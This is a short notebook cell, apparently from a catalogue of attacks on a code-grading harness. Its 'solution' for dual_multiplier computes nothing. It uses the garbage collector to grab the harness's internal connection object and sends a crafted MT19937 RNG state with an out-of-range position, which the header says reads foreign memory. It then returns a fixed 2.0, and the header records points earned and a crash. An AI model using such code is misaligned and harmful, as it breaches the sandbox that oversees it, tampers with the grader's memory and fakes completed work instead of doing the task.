# %% [markdown]
# A function sends a generator whose state reads foreign memory.
#
# earns: 8
# incident: died

# %% solution="dual_multiplier"
import gc
import sys

inside = sys.modules["inside"]
calls = next(o for o in gc.get_objects() if type(o).__name__ == "Calls")


def dual_multiplier(M, h, b, c):
    import json

    state = [["key", [0] * 624], ["pos", 10**9]]
    pairs = [["bit_generator", "MT19937"], ["state", {"t": "dict", "v": state}]]
    tree = {"t": "rng", "v": {"t": "dict", "v": pairs}}
    head = json.dumps({"v": tree, "b": []}).encode()
    data = len(head).to_bytes(4, "big") + head
    calls.connection.sendall(len(data).to_bytes(8, "big") + data)
    return 2.0
